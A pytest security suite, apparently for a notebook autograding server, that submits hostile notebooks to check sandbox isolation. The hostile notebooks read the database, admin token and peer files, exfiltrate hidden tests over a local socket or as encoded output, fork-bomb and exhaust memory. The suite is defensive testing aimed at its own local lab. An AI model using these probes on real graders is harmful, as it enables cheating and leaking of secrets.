"""Graded exercises under attack (issue 15's acceptance: the tampering corpus, no leaks,
isolation, reliability), through a real `lab serve` with its sandbox on (the default) that
grades in real python3 and academy-candle kernels.

One lab serves the corpus: a trainer releases a python3 and an academy-candle assignment
(hidden results "never", 3 s per cell, 20 s in all); two honest engineers and a hostile one
submit in one batch. Each submission must get exactly the points its honest answer earns, per
cell; the honest ones keep theirs; the gateway keeps answering and grading. What a hostile
answer tried (reading the classroom, the database, another submission; listing the grading
folders; the network; the gateway's port; writing outside its scratch folder) it prints, and
the test reads that from the notebook the grading ran (kept in DATA/classroom/graded). Then
everything the engineers were sent, every file under DATA/users and everything `lab serve`
wrote are scanned for markers planted in the hidden tests and the solutions
(`LAB_TEST_GRADING_LOG=debug` scans debug logs too). A second lab is killed with SIGKILL in
the middle of grading 50 submissions and restarted.

`xfail(strict=True)` marks a hole this suite found that is not fixed yet (each reason says
where the fix belongs); it fails the suite the day the hole closes, so the mark comes off.
Run with `-s` to see what the sandbox grants a grading kernel and what its network reaches.
"""
import base64
import json
import os
import pathlib
import re
import signal
import socket
import subprocess
import threading
import time
import urllib.error
import urllib.request
import uuid

import pytest

from test_gateway import LAB, ROOT, VENV_DATA, free_port, stream_of_cell
from test_sandbox import landlock_abi

pytestmark = pytest.mark.skipif(landlock_abi() < 6, reason="this Linux lacks Landlock ABI 6")

RUN = uuid.uuid4().hex[:10]
HIDDEN = f"HIDDEN-MARKER-{RUN}"
SOLUTION = f"SOLUTION-MARKER-{RUN}"
PEER = f"PEER-MARKER-{RUN}"
MARKERS = (HIDDEN, SOLUTION)

POLICY = {"hidden": "never", "cell_timeout_s": 3, "total_timeout_s": 20}


# ---------------------------------------------------------------- a lab and its clients

def serve(data, port, logs):
    """`lab serve` on `data` (sandbox required, the default), its stdout and stderr each in a
    file under `logs` (outside the data dir), appended across restarts. Returns the process
    and the admin token once it printed its login URL."""
    data.mkdir(parents=True, exist_ok=True)
    logs.mkdir(parents=True, exist_ok=True)
    env = dict(os.environ, JUPYTER_PATH=str(VENV_DATA),
               LAB_LOG=os.environ.get("LAB_TEST_GRADING_LOG", "info"))
    out_path = logs / "stdout.log"
    start = out_path.stat().st_size if out_path.exists() else 0
    proc = subprocess.Popen(
        [str(LAB), "serve", "--port", str(port), "--data-dir", str(data)],
        stdout=open(out_path, "a"), stderr=open(logs / "stderr.log", "a"), env=env,
    )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        printed = out_path.read_text()[start:]
        if "Log in with: " in printed:
            info = json.loads((data / "runtime" / "lab-server.json").read_text())
            assert info["pid"] == proc.pid, "lab-server.json is another server's"
            return proc, info["token"]
        if proc.poll() is not None:
            break
        time.sleep(0.1)
    raise AssertionError("lab serve did not come up:\n" + out_path.read_text()
                         + (logs / "stderr.log").read_text())


def add_user(data, name, role):
    out = subprocess.run([str(LAB), "user", "add", name, "--role", role, "--data-dir", str(data)],
                         capture_output=True, text=True, check=True).stdout
    return out.strip().splitlines()[-1]


class Client:
    """One user's HTTP client; keeps every response body it received (for the leak scan)."""

    def __init__(self, base, token, name):
        self.base, self.token, self.name = base, token, name
        self.seen = []

    def call(self, method, path, body=None):
        req = urllib.request.Request(
            self.base + path, method=method,
            data=None if body is None else json.dumps(body).encode(),
            headers={"Authorization": f"token {self.token}", "Content-Type": "application/json"},
        )
        try:
            with urllib.request.urlopen(req, timeout=90) as r:
                status, raw = r.status, r.read()
        except urllib.error.HTTPError as e:
            status, raw = e.code, e.read()
        self.seen.append(raw)
        try:
            return status, json.loads(raw) if raw else None
        except ValueError:
            return status, raw.decode(errors="replace")

    def get(self, path):
        return self.call("GET", path)


def wait_until(what, timeout, probe, interval=0.2):
    """Polls `probe` until it returns something truthy; fails after `timeout` seconds."""
    deadline = time.monotonic() + timeout
    while True:
        got = probe()
        if got:
            return got
        assert time.monotonic() < deadline, f"timed out after {timeout} s waiting for {what}"
        time.sleep(interval)


def wait_graded(client, ids, timeout):
    """Waits until every submission in `ids` is graded or failed; returns their views."""
    done = {}

    def probe():
        for i in ids:
            if i in done:
                continue
            status, sub = client.get(f"/api/submissions/{i}")
            assert status == 200, sub
            if sub["state"] in ("graded", "failed"):
                done[i] = sub
        return len(done) == len(ids)

    wait_until(f"{len(ids)} gradings", timeout, probe, interval=0.5)
    return done


def grading_processes(data):
    """{pid: cwd} of the processes whose working directory is in a grading scratch folder (a
    grading kernel, or anything it started), removed or not."""
    scratch = str(data / "users" / ".grading-")
    found = {}
    for entry in pathlib.Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cwd = os.readlink(entry / "cwd")
        except OSError:
            continue
        if cwd.startswith(scratch):
            found[int(entry.name)] = cwd
    return found


def kill_pids(pids):
    """Stops processes this test's submissions started (by pid)."""
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


class Trap:
    """What a grading kernel could send out: a TCP listener on 127.0.0.1:80 (a port the
    sandbox lets kernels connect to) and a UDP socket, each recording every byte received."""

    def __init__(self):
        self.received = bytearray()
        self.tcp = socket.socket()
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            self.tcp.bind(("127.0.0.1", 80))
            self.tcp.listen(64)
            self.tcp_port = 80
        except OSError:
            self.tcp.close()
            self.tcp_port = None
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp_port = self.udp.getsockname()[1]
        self.lock = threading.Lock()
        if self.tcp_port:
            threading.Thread(target=self._accept, daemon=True).start()
        threading.Thread(target=self._udp, daemon=True).start()

    def _accept(self):
        while True:
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                return
            threading.Thread(target=self._read, args=(conn,), daemon=True).start()

    def _read(self, conn):
        conn.settimeout(10)
        try:
            while chunk := conn.recv(65536):
                with self.lock:
                    self.received += chunk
        except OSError:
            pass
        conn.close()

    def _udp(self):
        while True:
            try:
                chunk, _ = self.udp.recvfrom(65536)
            except OSError:
                return
            with self.lock:
                self.received += chunk

    def close(self):
        for s in (self.tcp, self.udp):
            try:
                s.close()
            except OSError:
                pass


# ---------------------------------------------------------------- the assignments

def cell(kind, source, nbgrader=None):
    c = {"cell_type": kind, "metadata": {}, "source": source}
    if nbgrader is not None:
        c["metadata"]["nbgrader"] = {"schema_version": 3, "locked": False, "solution": False,
                                     "grade": False, "task": False, **nbgrader}
    if kind == "code":
        c["outputs"], c["execution_count"] = [], None
    return c


def grader_test(grade_id, points, source):
    return cell("code", source, {"grade": True, "grade_id": grade_id, "locked": True,
                                 "points": points})


def answer_cell(source):
    """An autograded answer (nbgrader: a solution cell that is not graded itself)."""
    return cell("code", source, {"solution": True, "grade_id": "answer"})


def helpers_cell(source):
    return cell("code", source, {"grade_id": "helpers", "locked": True})


def py_source():
    return {
        "nbformat": 4, "nbformat_minor": 5,
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3",
                                    "language": "python"},
                     "language_info": {"name": "python"}},
        "cells": [
            cell("markdown", "# Forty-two\nSet `answer` to six times seven."),
            helpers_cell("def check_answer(x):\n    assert x == 42, 'answer should be 42'"),
            answer_cell(f"### BEGIN SOLUTION\nanswer = 6 * 7  # {SOLUTION}\n### END SOLUTION"),
            grader_test("test_answer", 2, "assert answer == 42, 'answer should be 42'"),
            grader_test("test_helper", 1, "check_answer(answer)"),
            grader_test("test_hidden", 3,
                      "assert answer > 0, 'answer should be positive'\n"
                      f"### BEGIN HIDDEN TESTS\n# {HIDDEN}\nassert answer == 42, '{HIDDEN} wrong'\n"
                      "### END HIDDEN TESTS"),
            grader_test("test_partial", 4, "3.5 if answer == 42 else 0.0"),
            grader_test("test_after", 1, "assert answer == 42, 'still 42'"),
        ],
    }


def candle_source():
    return {
        "nbformat": 4, "nbformat_minor": 5,
        "metadata": {"kernelspec": {"name": "academy-candle", "display_name": "Candle",
                                    "language": "rhai"}},
        "cells": [
            cell("markdown", "# Forty-two\nSet `answer` to six times seven."),
            helpers_cell('fn check_answer(x) { if x != 42 { throw "answer should be 42"; } }'),
            answer_cell(f"// BEGIN SOLUTION\nlet answer = 6 * 7; // {SOLUTION}\n// END SOLUTION"),
            grader_test("test_answer", 2, 'if answer != 42 { throw "answer should be 42"; }'),
            grader_test("test_helper", 1, "check_answer(answer);"),
            grader_test("test_builtin", 1, "assert_eq(tensor([answer * 1.0]).item(), 42.0);"),
            grader_test("test_hidden", 3,
                      'if answer < 0 { throw "negative"; }\n'
                      f'// BEGIN HIDDEN TESTS\n// {HIDDEN}\nif answer != 42 {{ throw "{HIDDEN} wrong"; }}\n'
                      "// END HIDDEN TESTS"),
            grader_test("test_partial", 4, "if answer == 42 { 3.5 } else { 0.0 }"),
        ],
    }


PY_FULL = {"test_answer": 2, "test_helper": 1, "test_hidden": 3,
           "test_partial": 3.5, "test_after": 1}
PY_WRONG = {"test_answer": 0, "test_helper": 0, "test_hidden": 0,
            "test_partial": 0, "test_after": 0}
PY_STOPPED = dict.fromkeys(PY_FULL, 0)
C_FULL = {"test_answer": 2, "test_helper": 1, "test_builtin": 1, "test_hidden": 3,
          "test_partial": 3.5}
C_WRONG = {"test_answer": 0, "test_helper": 0, "test_builtin": 0, "test_hidden": 0,
           "test_partial": 0}


def with_answer(released, text):
    nb = json.loads(json.dumps(released))
    for c in nb["cells"]:
        if c["metadata"].get("nbgrader", {}).get("grade_id") == "answer":
            c["source"] = text
    return nb


def checks_in(nb):
    return [c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade")
            and not c["metadata"]["nbgrader"].get("solution")]


# --------------------------------------------------------------- the hostile submissions

# Prepended to every probing python answer: where the data dir is (the grading kernel's cwd
# is DATA/users/.grading-ID), and one line per attempt saying what it got.
PY_PROBE = """
import os, socket
DATA = os.path.dirname(os.path.dirname(os.path.realpath(os.getcwd())))
def attempt(label, f):
    try:
        got = f()
        print(label, 'OK', repr(got)[:300])
    except BaseException as e:
        print(label, 'DENIED', type(e).__name__, getattr(e, 'errno', ''))
def read(path):
    with open(path, 'rb') as f:
        return f.read()
"""


def py(text):
    return "answer = 42\n" + PY_PROBE + text


class Case:
    def __init__(self, name, kind, build, points, who="eve", probes=(), absent_files=()):
        self.name, self.kind, self.build, self.points, self.who = name, kind, build, points, who
        # (label, what the answer cell's output must say for it)
        self.probes = probes
        self.absent_files = absent_files


def drop_tests(released, text):
    nb = with_answer(released, text)
    nb["cells"] = [c for c in nb["cells"] if c not in checks_in(nb)]
    return nb


def edit_tests(released, text, body):
    nb = with_answer(released, text)
    for c in checks_in(nb):
        c["source"] = body(c["metadata"]["nbgrader"]["grade_id"])
    return nb


def relabel_tests(released, text, body):
    nb = with_answer(released, text)
    for c in checks_in(nb):
        c["metadata"]["nbgrader"].update(solution=True, locked=False)
        c["source"] = body
    return nb


def points_raised(released, text):
    nb = with_answer(released, text)
    for c in nb["cells"]:
        if "nbgrader" in c["metadata"]:
            c["metadata"]["nbgrader"]["points"] = 1000
            c["metadata"]["nbgrader"]["grade"] = True
    return nb


def forged_cells(released):
    nb = with_answer(released, "answer = 41")
    forged = with_answer(released, "answer = 42")
    first = next(c for c in forged["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "answer")
    nb["cells"].insert(0, first)  # a second copy of the answer before it: the last one counts
    nb["cells"].append(cell("code", "pass", {"grade": True, "grade_id": "bonus", "points": 100}))
    nb["cells"].append(cell("code", "100", {"grade": True, "grade_id": "test_answer", "points": 100}))
    return nb


def reordered(released):
    nb = with_answer(released, "answer = 42")
    tests = checks_in(nb)
    nb["cells"] = tests + [c for c in nb["cells"] if c not in tests]
    return nb


def kernel_swapped(released):
    nb = with_answer(released, "answer = 42")
    nb["metadata"]["kernelspec"] = {"name": "academy-candle", "display_name": "x", "language": "rhai"}
    return nb


def exfiltrating_hook():
    """An answer that hooks IPython so every later cell prints, encoded, the source of every
    cell run so far: a public test after the hidden one would carry the hidden source."""
    return """answer = 42
import base64 as _b
_seen = []
def _pre(info):
    _seen.append(info.raw_cell)
def _post(result):
    for src in _seen:
        print('B64:' + _b.b64encode(src.encode()).decode())
        print('REV:' + src[::-1].replace('\\n', '|'))
        print('HEX:' + src.encode().hex())
get_ipython().events.register('pre_run_cell', _pre)
get_ipython().events.register('post_run_cell', _post)
"""


def network_exfil():
    """An answer that sends every later cell's source out over TCP port 80 and UDP."""
    return """answer = 42
import socket as _s
def _send(info):
    try:
        c = _s.create_connection(('127.0.0.1', 80), timeout=2)
        c.sendall(info.raw_cell.encode())
        c.close()
    except OSError:
        pass
    try:
        _s.socket(_s.AF_INET, _s.SOCK_DGRAM).sendto(info.raw_cell.encode()[:1000], ('127.0.0.1', UDP_PORT))
    except OSError:
        pass
get_ipython().events.register('pre_run_cell', _send)
"""


def touch_10_gb(setup):
    """An answer that gets 10 GiB as `m` by `setup` (Python lines), then touches it page by page
    (so the cell timeout interrupts it whatever it got), printing `alloc OK` or `alloc DENIED`."""
    indented = "".join("    " + line + "\n" for line in setup.splitlines())
    return f"""answer = 42
import mmap, os
done = 0
try:
{indented}    print('alloc OK reserved 10 GiB')
    for i in range(0, 10 * 2**30, 4096):
        m[i] = 1
        done = i + 4096
except (MemoryError, OSError) as e:  # a refused mmap, memfd or shm_open is an OSError
    print('alloc DENIED', type(e).__name__, e)
finally:
    print('touched %.2f GiB' % (done / 2**30))
"""


def corpus_cases(ctx):
    """Every submission of the batch, honest and hostile. `ctx` names the data dir, the
    gateway's port, the peer submission's id and the trap's ports."""
    data, peer = ctx["data"], ctx["peer"]
    classroom = data / "classroom"
    pyrel, crel = ctx["py_release"], ctx["candle_release"]
    denied = lambda *labels: tuple((l, "DENIED") for l in labels)  # noqa: E731

    cases = [
        Case("py-honest-first", "py", lambda: with_answer(pyrel, "answer = 6 * 7"), PY_FULL, who="ada"),
        Case("py-honest-wrong", "py", lambda: with_answer(pyrel, "answer = 41"), PY_WRONG, who="ada"),
        Case("candle-honest-first", "candle", lambda: with_answer(crel, "let answer = 6 * 7;"), C_FULL, who="ada"),

        # Tampering with the notebook's structure and metadata.
        Case("py-delete-test-cells", "py", lambda: drop_tests(pyrel, "answer = 41"), PY_WRONG),
        Case("py-edit-tests-to-pass", "py",
             lambda: edit_tests(pyrel, "answer = 41", lambda gid: "4.0" if gid == "test_partial" else "pass"),
             PY_WRONG),
        Case("py-raise-points-in-metadata", "py", lambda: points_raised(pyrel, "answer = 42"), PY_FULL),
        Case("py-relabel-tests-as-solutions", "py", lambda: relabel_tests(pyrel, "answer = 41", "4.0"), PY_WRONG),
        Case("py-forged-and-duplicated-cells", "py", lambda: forged_cells(pyrel), PY_WRONG),
        Case("py-tests-moved-before-the-answer", "py", lambda: reordered(pyrel), PY_FULL),
        Case("py-kernelspec-swapped", "py", lambda: kernel_swapped(pyrel), PY_FULL),
        Case("candle-delete-test-cells", "candle", lambda: drop_tests(crel, "let answer = 41;"), C_WRONG),
        Case("candle-edit-tests-to-pass", "candle",
             lambda: edit_tests(crel, "let answer = 41;", lambda gid: "4.0" if gid == "test_partial" else "1"),
             C_WRONG),
        Case("candle-relabel-tests-as-solutions", "candle",
             lambda: relabel_tests(crel, "let answer = 41;", "4.0"), C_WRONG),

        # Redefining what the tests call.
        Case("py-redefine-the-helper-a-test-calls", "py",
             lambda: with_answer(pyrel, "answer = 41\ndef check_answer(x):\n    pass"), PY_WRONG),
        Case("py-input-transformer-empties-later-cells", "py",
             lambda: with_answer(pyrel, "answer = 41\nget_ipython().input_transformers_post.append("
                                        "lambda lines: ['pass\\n'])"), PY_WRONG),
        Case("candle-redefine-the-helper-a-test-calls", "candle",
             lambda: with_answer(crel, "let answer = 41;\nfn check_answer(x) { }"), C_WRONG),
        Case("candle-redefine-the-builtins-a-test-calls", "candle",
             lambda: with_answer(crel, "let answer = 41;\nfn assert_eq(a, b) { }\nfn item(t) { 42.0 }"), C_WRONG),

        # Reading what the grader keeps.
        Case("py-read-the-classroom-and-the-database", "py", lambda: with_answer(pyrel, py(f"""
attempt('source', lambda: read(os.path.join(DATA, 'classroom/assignments/sec/py/source.ipynb')))
attempt('release', lambda: read(os.path.join(DATA, 'classroom/assignments/sec/py/release.ipynb')))
attempt('peer-submission', lambda: read(os.path.join(DATA, 'classroom/submissions/{peer}.ipynb')))
attempt('graded-notebook', lambda: read(os.path.join(DATA, 'classroom/graded/1.ipynb')))
attempt('lab-db', lambda: read(os.path.join(DATA, 'lab.db')))
attempt('lab-db-wal', lambda: read(os.path.join(DATA, 'lab.db-wal')))
attempt('admin-token', lambda: read(os.path.join(DATA, 'runtime/lab-server.json')))
attempt('ada-copy', lambda: read(os.path.join(DATA, 'users/ada/sec/py.ipynb')))
attempt('gateway-environ', lambda: read('/proc/{ctx["gateway_pid"]}/environ'))
attempt('own-dir', lambda: sorted(os.listdir('.')))
""")), PY_FULL,
             probes=denied("source", "release", "peer-submission", "graded-notebook", "lab-db", "lab-db-wal",
                           "admin-token", "ada-copy", "gateway-environ") + (("own-dir", "OK"),)),
        Case("py-list-the-grading-folders", "py", lambda: with_answer(pyrel, py("""
attempt('users', lambda: os.listdir(os.path.join(DATA, 'users')))
attempt('parent', lambda: os.listdir('..'))
attempt('classroom', lambda: os.listdir(os.path.join(DATA, 'classroom')))
attempt('submissions', lambda: os.listdir(os.path.join(DATA, 'classroom/submissions')))
attempt('graded', lambda: os.listdir(os.path.join(DATA, 'classroom/graded')))
attempt('data', lambda: os.listdir(DATA))
attempt('runtime', lambda: os.listdir(os.path.join(DATA, 'runtime')))
attempt('tmp', lambda: os.listdir('/tmp'))
""")), PY_FULL, probes=denied("users", "parent", "classroom", "submissions", "graded", "data",
                              "runtime", "tmp")),
        Case("py-survey-what-the-sandbox-grants", "py", lambda: with_answer(pyrel, py(f"""
for p in [{str(ROOT)!r}, {str(ROOT / 'examples')!r}, {str(ROOT / 'tests')!r}, '/root', '/root/.ssh',
          '/root/.cargo', '/root/.pyenv', '/home', '/var', '/srv', '/mnt', '/tmp', '/dev/shm', '/run',
          '/etc', '/proc/1/environ', '/etc/shadow', os.environ.get('TMPDIR', '?')]:
    attempt('list ' + p, lambda: len(os.listdir(p)) if os.path.isdir(p) else len(read(p)))
print('env', sorted(os.environ))
print('cwd', os.getcwd(), 'uid', os.getuid(), 'pgid==pid', os.getpgid(0) == os.getpid())
""")), PY_FULL),
        Case("candle-read-the-classroom-and-the-database", "candle", lambda: with_answer(crel, f"""let answer = 42;
for p in ["{classroom}/assignments/sec/rhai/source.ipynb", "{classroom}/submissions/{peer}.ipynb", "{data}/lab.db", "{data}/runtime/lab-server.json"] {{
    try {{ let got = read_csv(p); print(`read OK ${{got}}`); }} catch (e) {{ print(`read DENIED ${{e}}`); }}
}}
"""), C_FULL),

        # The network and the gateway.
        Case("py-open-network-connections", "py", lambda: with_answer(pyrel, py(f"""
def tcp(host, port):
    c = socket.create_connection((host, port), timeout=2)
    c.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
    c.close()
    return 'connected'
attempt('tcp-other-port', lambda: tcp('127.0.0.1', 8080))
attempt('tcp-dns-port', lambda: tcp('1.1.1.1', 53))
attempt('tcp-outside-80', lambda: tcp('1.1.1.1', 80))
attempt('tcp-80', lambda: tcp('127.0.0.1', 80))
attempt('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'udp-{RUN}', ('127.0.0.1', {ctx["udp_port"]})))
""")), PY_FULL, probes=denied("tcp-other-port", "tcp-dns-port")),
        Case("py-reach-the-gateways-port", "py", lambda: with_answer(pyrel, py(f"""
import urllib.request
attempt('gateway-tcp', lambda: socket.create_connection(('127.0.0.1', {ctx["port"]}), timeout=3).close())
attempt('gateway-http', lambda: urllib.request.urlopen('http://127.0.0.1:{ctx["port"]}/api/status', timeout=3).read())
attempt('gateway-http-localhost', lambda: urllib.request.urlopen('http://localhost:{ctx["port"]}/api/status', timeout=3).read())
""")), PY_FULL, probes=denied("gateway-tcp", "gateway-http", "gateway-http-localhost")),

        # Resources.
        Case("py-fork-many-processes", "py", lambda: with_answer(pyrel, py("""
import time
os.mkdir('forked')
kids = []
for i in range(150):
    pid = os.fork()
    if pid == 0:
        os.chdir('forked')
        time.sleep(600)
        os._exit(0)
    kids.append(pid)
print('forked', len(kids))
""")), PY_FULL),
        Case("py-escape-the-process-group", "py", lambda: with_answer(pyrel, py("""
import time
os.mkdir('escaped')
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.chdir('escaped')
        time.sleep(600)
    os._exit(0)
os.waitpid(pid, 0)
print('escaped')
""")), PY_FULL),
        # Touched page by page from Python, so the cell timeout interrupts it whatever it got.
        Case("py-allocate-10-gb", "py", lambda: with_answer(pyrel, """answer = 42
import mmap
done = 0
try:
    m = mmap.mmap(-1, 10 * 2**30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    print('alloc OK reserved 10 GiB')
    for i in range(0, len(m), 4096):
        m[i] = 1
        done = i + 4096
except (MemoryError, OSError) as e:  # a refused mmap is OSError(ENOMEM)
    print('alloc DENIED', type(e).__name__, e)
finally:
    print('touched %.2f GiB' % (done / 2**30))
"""), PY_FULL),
        # Memory RLIMIT_DATA does not count (shared memory): the sandbox refuses it to a kernel
        # with a memory limit (launch/src/sandbox/seccomp.rs).
        Case("py-mmap-shared-10-gb", "py", lambda: with_answer(pyrel, touch_10_gb(
            "m = mmap.mmap(-1, 10 * 2**30)  # Python's default: MAP_SHARED | MAP_ANONYMOUS")), PY_FULL),
        Case("py-shared-memory-10-gb", "py", lambda: with_answer(pyrel, touch_10_gb(
            "from multiprocessing import shared_memory\n"
            "s = shared_memory.SharedMemory(create=True, size=10 * 2**30)\n"
            "m = s.buf")), PY_FULL),
        Case("py-memfd-10-gb", "py", lambda: with_answer(pyrel, touch_10_gb(
            "fd = os.memfd_create('fill')\n"
            "os.ftruncate(fd, 10 * 2**30)\n"
            "m = mmap.mmap(fd, 10 * 2**30)")), PY_FULL),
        Case("py-loop-forever", "py", lambda: with_answer(pyrel, "answer = 42\nwhile True:\n    pass"),
             PY_FULL),
        Case("py-ignore-the-interrupt-and-loop", "py", lambda: with_answer(
            pyrel, "answer = 42\nimport signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
             PY_STOPPED),
        Case("py-sleep-past-the-timeout", "py",
             lambda: with_answer(pyrel, "answer = 42\nimport time\ntime.sleep(3600)"), PY_FULL),
        Case("py-print-100-mb", "py", lambda: with_answer(
            pyrel, "answer = 42\nimport sys\nfor i in range(100):\n    sys.stdout.write('x' * 1_000_000)\nprint('done')"),
             PY_FULL),
        Case("candle-loop-forever", "candle", lambda: with_answer(crel, "let answer = 42;\nloop { }"),
             C_FULL),
        Case("candle-sleep-past-the-timeout", "candle",
             lambda: with_answer(crel, "let answer = 42;\nsleep(3600.0);"), C_FULL),

        # Writing outside the scratch folder.
        Case("py-write-outside-the-scratch-folder", "py", lambda: with_answer(pyrel, py(f"""
def write(path):
    with open(path, 'w') as f:
        f.write('pwned-{RUN}')
    return 'wrote'
attempt('submitters-folder', lambda: write(os.path.join(DATA, 'users/eve/pwned-{RUN}.txt')))
attempt('peers-folder', lambda: write(os.path.join(DATA, 'users/ada/pwned-{RUN}.txt')))
attempt('peer-submission', lambda: write(os.path.join(DATA, 'classroom/submissions/{peer}.ipynb')))
attempt('new-submission', lambda: write(os.path.join(DATA, 'classroom/submissions/pwned-{RUN}.ipynb')))
attempt('source', lambda: write(os.path.join(DATA, 'classroom/assignments/sec/py/source.ipynb')))
attempt('data-dir', lambda: write(os.path.join(DATA, 'pwned-{RUN}.txt')))
attempt('users-root', lambda: write(os.path.join(DATA, 'users/pwned-{RUN}.txt')))
attempt('tmp', lambda: write('/tmp/pwned-{RUN}.txt'))
attempt('home', lambda: write(os.path.expanduser('~/mine.txt')))
""")), PY_FULL,
             probes=denied("submitters-folder", "peers-folder", "peer-submission", "new-submission",
                           "source", "data-dir", "users-root", "tmp") + (("home", "OK"),),
             absent_files=(f"users/eve/pwned-{RUN}.txt", f"users/ada/pwned-{RUN}.txt",
                           f"classroom/submissions/pwned-{RUN}.ipynb", f"pwned-{RUN}.txt",
                           f"users/pwned-{RUN}.txt", f"/tmp/pwned-{RUN}.txt")),

        # Getting the hidden tests out.
        Case("py-print-later-cells-encoded", "py", lambda: with_answer(pyrel, exfiltrating_hook()), PY_FULL),
        Case("py-send-later-cells-out", "py",
             lambda: with_answer(pyrel, network_exfil().replace("UDP_PORT", str(ctx["udp_port"]))), PY_FULL),

        Case("py-honest-peer", "py", None, PY_FULL, who="bob"),  # submitted first (see `corpus`)
        Case("py-honest-last", "py", lambda: with_answer(pyrel, "answer = 42"), PY_FULL, who="ada"),
        Case("candle-honest-wrong", "candle", lambda: with_answer(crel, "let answer = 41;"), C_WRONG, who="ada"),
        Case("candle-honest-last", "candle", lambda: with_answer(crel, "let answer = 42;"), C_FULL, who="ada"),
    ]
    return cases


CASE_NAMES = [c.name for c in corpus_cases({
    "data": pathlib.Path("/x"), "peer": "p", "port": 0, "udp_port": 0, "gateway_pid": 0,
    "py_release": {}, "candle_release": {}})]

# Holes this suite found, by case, with where the fix belongs.
SCORE_HOLES = {
    "py-redefine-the-helper-a-test-calls":
        "python3 answers run in the same interpreter before the tests: an answer can rebind a "
        "helper a locked cell defined (as in nbgrader). Test authors must define checks inside "
        "the test cell (README); no platform fix in-process",
    "py-input-transformer-empties-later-cells":
        "python3 answers can register IPython input transformers that rewrite every later test "
        "cell (as in nbgrader); no platform fix in-process: hidden tests must run where answers "
        "cannot reach them",
    "candle-redefine-the-helper-a-test-calls":
        "academy-candle: an answer's `fn check_answer` replaces the one a locked cell defined "
        "before it (kernel-runtime/src/candle/mod.rs `run`: library += cell); only built-ins "
        "(assert_eq, item, ...) are protected, so test authors must use them or define helpers "
        "in the test cell (README)",
}


# ---------------------------------------------------------------- the corpus lab

@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    root = tmp_path_factory.mktemp("grading-security")
    data, logs = root / "data", root / "logs"
    port = free_port()
    proc, admin = serve(data, port, logs)
    base = f"http://127.0.0.1:{port}"
    users = {"admin": Client(base, admin, "admin")}
    for name, role in (("tess", "trainer"), ("ada", "engineer"), ("bob", "engineer"),
                       ("eve", "engineer")):
        users[name] = Client(base, add_user(data, name, role), name)
    trap = Trap()
    yield {"data": data, "logs": logs, "port": port, "base": base, "proc": proc, "users": users,
           "trap": trap}
    trap.close()
    proc.terminate()
    proc.wait(timeout=30)
    kill_pids(grading_processes(data))


def release(lab, name, source):
    tess = lab["users"]["tess"]
    path = f"/api/courses/sec/assignments/{name}"
    status, body = tess.call("PUT", path, {"notebook": source, "policy": POLICY})
    assert status == 200, body
    status, body = tess.call("PATCH", path, {"released": True})
    assert status == 200, body
    ada = lab["users"]["ada"]
    status, body = ada.call("POST", f"{path}/fetch")
    assert status == 201, body
    status, copy = ada.get(f"/api/contents/sec/{name}.ipynb")
    assert status == 200, copy
    text = json.dumps(copy["content"])
    assert HIDDEN not in text and SOLUTION not in text
    return copy["content"]


def submit(client, assignment, nb):
    status, body = client.call("POST", f"/api/courses/sec/assignments/{assignment}/submissions",
                               {"notebook": nb})
    assert status == 201, body
    return body["id"]


@pytest.fixture(scope="module")
def corpus(lab):
    """Submits the whole batch at once and waits until every submission is graded; returns
    per case its id, the submitter's view and the staff's view, and the processes left."""
    users = lab["users"]
    py_release = release(lab, "py", py_source())
    candle_release = release(lab, "rhai", candle_source())
    peer_nb = with_answer(py_release, f"answer = 42  # {PEER}")
    peer = submit(users["bob"], "py", peer_nb)
    ctx = {"data": lab["data"], "peer": peer, "port": lab["port"], "udp_port": lab["trap"].udp_port,
           "gateway_pid": lab["proc"].pid, "py_release": py_release, "candle_release": candle_release}
    cases = {c.name: c for c in corpus_cases(ctx)}
    ids = {"py-honest-peer": peer}
    notebooks = {"py-honest-peer": peer_nb}
    for c in cases.values():
        if c.build is None:
            continue
        notebooks[c.name] = c.build()
        ids[c.name] = submit(users[c.who], "py" if c.kind == "py" else "rhai", notebooks[c.name])
    admin = users["admin"]
    staff = wait_graded(admin, list(ids.values()), timeout=900)
    mine = {name: users[cases[name].who].get(f"/api/submissions/{i}")[1] for name, i in ids.items()}
    # A grading kernel and everything it started must be gone once its grading is recorded.
    leftovers = {}
    try:
        wait_until("grading processes to end", 30, lambda: not grading_processes(lab["data"]))
    except AssertionError:
        leftovers = grading_processes(lab["data"])
        kill_pids(leftovers)
    return {"ids": ids, "cases": cases, "staff": {n: staff[i] for n, i in ids.items()},
            "mine": mine, "notebooks": notebooks, "leftovers": leftovers, "peer": peer}


def points_of(view):
    return {c["grade_id"]: c["points"] for c in view["feedback"]["cells"]}


def output_of(view, grade_id):
    return next(c["output"] for c in view["feedback"]["cells"] if c["grade_id"] == grade_id)


def answer_output(lab, staff_view):
    """What the answer cell printed, from the notebook its grading ran (kept by the gateway
    in DATA/classroom/graded, which only the test reads: no API hands it to an engineer)."""
    grading = staff_view["gradings"][-1]["id"]
    nb = json.loads((lab["data"] / "classroom" / "graded" / f"{grading}.ipynb").read_text())
    c = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "answer")
    text = ""
    for o in c["outputs"]:
        if o["output_type"] == "stream":
            text += o["text"] if isinstance(o["text"], str) else "".join(o["text"])
        elif o["output_type"] == "error":
            text += f"{o['ename']}: {o['evalue']}\n"
    return text


@pytest.mark.timeout(1200)
@pytest.mark.parametrize("name", [
    pytest.param(n, marks=pytest.mark.xfail(strict=True, reason=SCORE_HOLES[n])) if n in SCORE_HOLES
    else n for n in CASE_NAMES])
def test_each_submission_of_the_batch_gets_exactly_its_honest_score(lab, corpus, name):
